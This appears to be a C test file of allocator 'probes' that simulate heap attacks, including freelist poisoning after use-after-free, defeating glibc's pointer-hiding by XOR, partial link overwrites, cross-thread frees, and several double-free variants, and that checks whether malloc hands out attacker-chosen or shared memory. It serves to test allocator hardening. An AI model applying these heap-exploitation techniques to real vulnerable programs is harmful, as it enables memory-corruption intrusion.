/* SPDX-License-Identifier: MIT
 *
 * The attacker changes the list of free blocks, through a block that he still points to after its
 * free, or by freeing it twice.
 */
#include "probes.h"

#include <string.h>

enum { TRIES = 200 };

/* Goal of all that poison a list: malloc returns memory outside the heap. */
static void take_until_in_target(size_t size)
{
    for (int i = 0; i < (size > 65536 ? 8 : TRIES); i++) {
        if (is_in_target(take(size))) {
            reach("malloc returned memory of the attacker's choice");
        }
    }
}

static void write_word(void *at, uintptr_t word)
{
    *(volatile uintptr_t *)opaque(at) = word;
}

/* A free block looks like one of glibc's in front, where an allocator checks that. */
static uintptr_t forged_block(size_t size)
{
    write_word(target + 64 - 8, (size + 16 + 15) / 16 * 16 + 1);
    return (uintptr_t)target + 64;
}

static void poison(size_t size)
{
    void *other = take(size), *block = take(size), *wall = take(size);
    give(other);
    give(block);
    write_word(block, forged_block(size));
    take_until_in_target(size);
    (void)wall;
}

static void poison_small(void)
{
    poison(SMALL);
}

static void poison_page(void)
{
    poison(PAGE_SIZED);
}

static void poison_large(void)
{
    poison(LARGE);
}

/* glibc hides a link by its own address shifted; the attacker reads one to undo that. */
static void poison_hidden(void)
{
    void *other = take(SMALL), *block = take(SMALL);
    give(other);
    give(block);
    write_word(block, forged_block(SMALL) ^ ((uintptr_t)block >> 12));
    take_until_in_target(SMALL);
}

/* Links hidden with one key: what is known of two of them gives the key away. */
static void poison_by_difference(void)
{
    void *blocks[4];
    for (int i = 0; i < 4; i++) {
        blocks[i] = take(SMALL);
    }
    for (int i = 0; i < 4; i++) {
        give(blocks[i]);
    }
    uintptr_t link = *(volatile uintptr_t *)opaque(blocks[3]);
    write_word(blocks[3], link ^ (uintptr_t)blocks[2] ^ forged_block(SMALL));
    take_until_in_target(SMALL);
}

/* Two low bytes are enough to lead a link into the middle of a live block near by. */
static void poison_partly(void)
{
    char *live = take(SMALL), *other = take(SMALL), *block = take(SMALL);
    memset(live, 0, SMALL);
    give(other);
    give(block);
    uint16_t low = (uint16_t)((uintptr_t)live + 16);
    memcpy(opaque(block), &low, sizeof(low));
    for (int i = 0; i < TRIES; i++) {
        char *got = take(SMALL);
        if (got > live - SMALL && got < live + SMALL) {
            reach("malloc returned memory inside a block that is in use");
        }
    }
}

static void poison_to_live(void)
{
    char *live = take(SMALL), *other = take(SMALL), *block = take(SMALL);
    give(other);
    give(block);
    write_word(block, (uintptr_t)live);
    for (int i = 0; i < TRIES; i++) {
        if (take(SMALL) == live) {
            reach("two owners share a block");
        }
    }
}

static void *give_in_thread(void *block)
{
    give(block);
    return NULL;
}

/* A block freed by another thread lies in a list of another kind until its owner looks. */
static void poison_of_other_thread(void)
{
    void *block = take(SMALL);
    in_thread(give_in_thread, block);
    write_word(block, forged_block(SMALL));
    for (int i = 0; i < 100 * TRIES; i++) {
        if (is_in_target(take(SMALL))) {
            reach("malloc returned memory of the attacker's choice");
        }
    }
}

static void poison_both_words(void)
{
    uintptr_t *blocks[16];
    for (int i = 0; i < 16; i++) {
        blocks[i] = take(SMALL);
    }
    for (int i = 0; i < 16; i++) {
        give(blocks[i]);
    }
    for (int i = 0; i < 16; i++) {
        for (int k = 0; k < 4; k++) {
            write_word(blocks[i] + k, forged_block(SMALL));
        }
    }
    take_until_in_target(SMALL);
}

/* Freed twice, the block is handed out once with its link still in a list. */
static void poison_by_double_free(void)
{
    void *block = take(SMALL), *other = take(SMALL);
    give(block);
    give(other);
    give(block);
    write_word(take(SMALL), forged_block(SMALL));
    take_until_in_target(SMALL);
}

/* Goal of all double frees: one block for two owners. */
static void expect_no_twins(size_t size)
{
    enum { COUNT = 64 };
    void *blocks[COUNT];
    int count = size > 65536 ? 4 : COUNT;
    for (int i = 0; i < count; i++) {
        blocks[i] = take(size);
        for (int k = 0; k < i; k++) {
            if (blocks[k] == blocks[i]) {
                reach("two owners share a block");
            }
        }
    }
}

static void double_free(size_t size)
{
    void *block = take(size), *wall = take(size);
    give(block);
    give(block);
    expect_no_twins(size);
    (void)wall;
}

static void double_free_small(void)
{
    double_free(SMALL);
}

static void double_free_page(void)
{
    double_free(PAGE_SIZED);
}

static void double_free_large(void)
{
    double_free(LARGE);
}

static void double_free_between(void)
{
    void *block = take(SMALL), *other = take(SMALL);
    give(block);
    give(other);
    give(block);
    expect_no_twins(SMALL);
}

static void double_free_by_thread(void)
{
    void *block = take(SMALL);
    in_thread(give_in_thread, block);
    give(block);
    expect_no_twins(SMALL);
}

/* Seven frees fill what glibc keeps by thread; the eighth goes where it looks at one block only. */
static void double_free_after_seven(void)
{
    void *blocks[9];
    for (int i = 0; i < 9; i++) {
        blocks[i] = take(SMALL);
    }
    for (int i = 0; i < 9; i++) {
        give(blocks[i]);
    }
    give(blocks[7]);
    expect_no_twins(SMALL);
}

/* The place has a new owner when it is freed through the old pointer, and goes to a third. */
static void double_free_of_new_owner(void)
{
    char *block = take(SMALL);
    give(block);
    char *owner = take(SMALL);
    set_up(owner, SMALL);
    give(block);
    for (int i = 0; i < 64; i++) {
        fill_with_win(take(SMALL), SMALL);
    }
    call(owner, SMALL);
}

const struct probe list_probes[] = {
    {"poison-small", poison_small},
    {"poison-page", poison_page},
    {"poison-large", poison_large},
    {"poison-hidden", poison_hidden},
    {"poison-by-difference", poison_by_difference},
    {"poison-partly", poison_partly},
    {"poison-to-live", poison_to_live},
    {"poison-other-thread", poison_of_other_thread},
    {"poison-all-words", poison_both_words},
    {"poison-by-double-free", poison_by_double_free},
    {"double-free-small", double_free_small},
    {"double-free-page", double_free_page},
    {"double-free-large", double_free_large},
    {"double-free-between", double_free_between},
    {"double-free-by-thread", double_free_by_thread},
    {"double-free-after-seven", double_free_after_seven},
    {"double-free-new-owner", double_free_of_new_owner},
    {NULL, NULL},
};
